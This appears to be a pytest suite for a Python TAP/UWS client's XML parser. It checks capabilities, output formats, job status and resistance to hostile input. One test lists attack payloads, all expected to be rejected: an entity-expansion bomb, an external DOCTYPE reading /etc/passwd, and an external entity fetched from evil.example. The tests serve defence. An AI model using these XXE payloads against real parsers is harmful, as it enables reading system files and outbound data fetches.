"""XML from services, which may be anybody's: read in time, within limits, and without what XML lets strangers do."""

import contextlib
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from skykey.tap import capabilities, uws
from skykey.tap.capabilities import Capabilities
from skykey.tap.documents import MOST_BYTES, BadDocument, DocumentReader, Element, parsed
from skykey.tap.formats import Choice, Format, chosen, named, plain
from skykey.tap.uws import JobStatus
from skykey.values.errors import Unreadable, UsageError
from skykey.values.url import Url
from skykey.wire.request import Head
from tests.tap.scripted_tap import OFFERED
from tests.tap.scripted_tap import capabilities as document

HEAD = Head(200, {"content-type": "text/xml"}, Url("https://a.example/tap/async/7?WAIT=3"))


def read(text: str | bytes) -> Capabilities:
    return capabilities.read(HEAD, parsed(text if isinstance(text, bytes) else text.encode()))


def job(inside: str, root: str = "uws:job") -> JobStatus:
    text = f'<{root} xmlns:uws="u" xmlns:xlink="x">{inside}</{root}>'
    return uws.read(HEAD, parsed(text.encode()))


LAUGHS = (
    '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]>'
    "<capabilities>&d;</capabilities>"
)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "<a",
        "<a></b>",
        "plain",
        LAUGHS,
        '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x"> %b;]><a/>',
        "<a>&b;</a>",
        "<a>" * 51 + "</a>" * 51,
        "<a>" + "<b/>" * 200_000 + "</a>",
        "<a/><b/>",
        "\0",
    ],
)
def test_what_is_hostile_or_broken_is_no_document(text: str) -> None:
    with pytest.raises(BadDocument):
        parsed(text.encode())


@pytest.mark.parametrize(
    "text",
    [
        b"<a>" + b"x&amp;" * (MOST_BYTES // 6) + b"</a>",
        b"<a " + b" ".join(b'b%d=""' % n for n in range(300_000)) + b"/>",
        b"<a>" + b"<b>x</b>" * 190_000 + b"</a>",
        b"<" + b"a" * MOST_BYTES,
        b"<a><!--" + b"-" * 0 + b"x" * MOST_BYTES + b"--></a>",
        b"<a>" + b"<![CDATA[]]>" * (MOST_BYTES // 12) + b"</a>",
    ],
)
def test_as_much_as_may_come_is_read_in_time(text: bytes, ceiling: Callable[[float], float]) -> None:
    begin = time.monotonic()
    with contextlib.suppress(BadDocument):
        parsed(text)
    assert time.monotonic() - begin < ceiling(3)


NAMES = st.from_regex(r"[a-z]{1,5}", fullmatch=True)


@st.composite
def elements(draw: st.DrawFn, depth: int = 3) -> Element:
    inside = draw(st.lists(elements(depth - 1), max_size=3)) if depth else []
    text = draw(st.text("abc<&>'\" ", max_size=5)).strip()
    return Element(
        draw(NAMES), draw(st.dictionaries(NAMES, st.text("abc<&>'\"", max_size=4), max_size=2)), inside, text
    )


def written(element: Element) -> str:
    from xml.sax.saxutils import escape, quoteattr

    attributes = "".join(f" p:{name}={quoteattr(value)}" for name, value in element.attributes.items())
    inside = "".join(map(written, element.children))
    return f"<p:{element.name}{attributes}>{escape(element.text)}{inside}</p:{element.name}>"


@given(elements())
def test_what_is_written_is_read_again_without_its_prefixes(element: Element) -> None:
    assert parsed(written(element).encode()) == element


@given(st.binary(max_size=200))
def test_no_bytes_do_harm(data: bytes) -> None:
    for text in (data, b"<capabilities>" + data + b"</capabilities>"):
        with contextlib.suppress(BadDocument):
            parsed(text)


def test_a_reader_gives_errors_and_words() -> None:
    reader = DocumentReader(capabilities.read, "capabilities")
    with pytest.raises(Unreadable, match="login"):
        reader.head(Head(200, {"content-type": "text/html"}, HEAD.url))
    reader.head(HEAD)
    reader.feed(b"<a")
    with pytest.raises(Unreadable, match="not capabilities") as caught:
        reader.finish()
    assert "WAIT" not in str(caught.value)
    assert reader.words(Head(500, {"content-type": "text/plain"}, HEAD.url), b"gone") == "gone"


# -- capabilities


def test_capabilities_are_what_the_document_says() -> None:
    limits = '<uploadLimit><hard unit="byte">5000</hard><hard unit="row">7</hard></uploadLimit>'
    found = read(document(default=100, hard=1000, more=limits))
    assert [each.mime for each in found.formats] == list(OFFERED)
    assert (found.default_rows, found.hard_rows, found.upload_bytes) == (100, 1000, 5000)
    assert (found.takes_tables, found.takes_addresses, found.known) == (True, False, True)
    assert [found.row_limit(asked) for asked in (None, 10, 5000)] == [100, 10, 1000]
    assert Capabilities().row_limit(None) is None


@pytest.mark.parametrize(
    ("limit", "rows"),
    [
        ('<hard unit="row">5</hard>', 5),
        ("<hard>5</hard>", 5),
        ('<hard unit="byte">5</hard>', None),
        ('<hard unit="row">0</hard>', None),
        ('<hard unit="row">many</hard>', None),
        ('<hard unit="row">-5</hard>', None),
        ('<hard unit="row">9' + "9" * 30 + "</hard>", None),
        ("<hard unit='row'>\u0665</hard>", None),
    ],
)
def test_limits_are_numbers_of_rows_or_none(limit: str, rows: int | None) -> None:
    text = f'<capabilities><capability standardID="ivo://ivoa.net/std/TAP"><outputLimit>{limit}</outputLimit></capability></capabilities>'
    assert read(text).hard_rows == rows


@pytest.mark.parametrize("standard", ["ivo://ivoa.net/std/TAP", "ivo://ivoa.net/std/tap#1.1", "IVO://IVOA.NET/STD/TAP"])
def test_the_capability_is_found_however_it_is_written(standard: str) -> None:
    assert read(f'<v:capabilities><capability standardID="{standard}"/></v:capabilities>').known


@pytest.mark.parametrize(
    "text",
    ["<capabilities/>", "<VOTABLE/>", '<capabilities><capability standardID="ivo://ivoa.net/std/SIA"/></capabilities>'],
)
def test_what_says_nothing_about_tap_is_none(text: str) -> None:
    with pytest.raises(BadDocument):
        read(text)


# -- formats


@pytest.mark.parametrize(
    ("form", "kind"),
    [
        (Format("application/x-votable+xml"), "votable"),
        (Format("text/xml"), "votable"),
        (Format("application/x-votable+xml;serialization=BINARY2"), "binary2"),
        (Format('Application/X-VOTable+XML ; Serialization = "binary2"'), "binary2"),
        (Format("application/x-votable+xml;serialization=TABLEDATA"), "tabledata"),
        (Format("application/x-votable+xml;serialization=BINARY"), "binary"),
        (Format("application/x-votable+xml;serialization=FITS"), None),
        (Format("application/x-votable+xml", (), "ivo://ivoa.net/std/TAPRegExt#output-votable-binary2"), "binary2"),
        (Format("application/x-votable+xml", (), "ivo://ivoa.net/std/TAPRegEXT#OUTPUT-VOTABLE-TD"), "tabledata"),
        (Format("text/csv;header=present"), "csv"),
        (Format("text/csv; header=absent"), None),
        (Format("text/tab-separated-values"), None),
        (Format("application/vnd.apache.parquet"), "parquet"),
        (Format("application/x-parquet"), "parquet"),
        (Format("application/fits"), None),
        (Format(""), None),
    ],
)
def test_kinds_are_told_by_type_parameters_and_identifier(form: Format, kind: str | None) -> None:
    assert form.kind == kind


@given(st.permutations([Format(mime) for mime in OFFERED]))
def test_the_order_of_the_offer_does_not_matter(offered: list[Format]) -> None:
    assert chosen(offered, ("parquet", "binary2")).kind == "parquet"
    assert chosen(offered[::-1], ("binary2",)).kind == "binary2"
    assert chosen([], ("parquet",)) == Choice(None, "votable", is_own=True)


@given(st.text(max_size=12))
def test_whatever_is_asked_for_is_chosen_or_refused(wanted: str) -> None:
    offered = [Format(mime) for mime in OFFERED]
    for known in (True, False):
        try:
            choice = named(wanted, offered, known=known)
        except UsageError:
            continue
        assert choice.kind in {"parquet", "csv", "votable", "binary2", "tabledata", "binary"}
        assert not choice.is_own
    assert plain(plain(wanted)) == plain(wanted)


# -- jobs


def test_a_job_is_what_the_document_says() -> None:
    found = job(
        "<uws:jobId>7</uws:jobId><uws:ownerId>me</uws:ownerId><uws:phase> completed </uws:phase>"
        "<uws:executionDuration>3600</uws:executionDuration><uws:destruction>2026-04-01T00:00:00Z</uws:destruction>"
        '<uws:results><uws:result id="log" xlink:href="log.txt"/><uws:result id="result" xlink:href="r?a=1&amp;b"/>'
        "</uws:results>"
    )
    assert (found.url, found.id, found.phase, found.owner) == ("https://a.example/tap/async/7", "7", "COMPLETED", "me")
    assert (found.execution_seconds, found.destruction) == (3600.0, "2026-04-01T00:00:00Z")
    assert found.result == "r?a=1&b"
    assert job('<phase>ERROR</phase><results><result id="x" href="y"/></results>').result == "y"
    assert job("<phase>ERROR</phase>").result is None


@pytest.mark.parametrize(
    ("times", "is_over"),
    [
        ("<startTime>2026-03-20T12:00:00Z</startTime><endTime>2026-03-20T12:01:00Z</endTime>", True),
        ("<startTime>2026-03-20T12:00:00.000</startTime><endTime>2026-03-20T13:01:00+01:00</endTime>", True),
        ("<startTime>2026-03-20T12:00:00Z</startTime><endTime>2026-03-20T12:00:59Z</endTime>", False),
        ("<startTime>noon</startTime><endTime>2026-03-20T12:00:59Z</endTime>", False),
        ("<endTime>2026-03-20T12:00:59Z</endTime>", False),
    ],
)
def test_a_job_that_ran_out_of_time_is_known_by_its_times(times: str, is_over: bool) -> None:
    assert job(f"<phase>ABORTED</phase><executionDuration>60</executionDuration>{times}").ran_out_of_time is is_over
    assert not job(f"<phase>ABORTED</phase><executionDuration>0</executionDuration>{times}").ran_out_of_time


@pytest.mark.parametrize("text", ["", "<phase/>", "<jobId>7</jobId>"])
def test_a_job_without_a_phase_is_none(text: str) -> None:
    with pytest.raises(BadDocument):
        job(text)
    with pytest.raises(BadDocument):
        job("<phase>ERROR</phase>", root="jobs")


@given(st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="<&\ufffe\uffff"), max_size=20))
def test_no_text_of_a_service_does_harm(text: str) -> None:
    found = job(f"<phase>X{text}</phase><executionDuration>{text}</executionDuration><startTime>{text}</startTime>")
    assert found.phase.isprintable()
    assert not found.ran_out_of_time
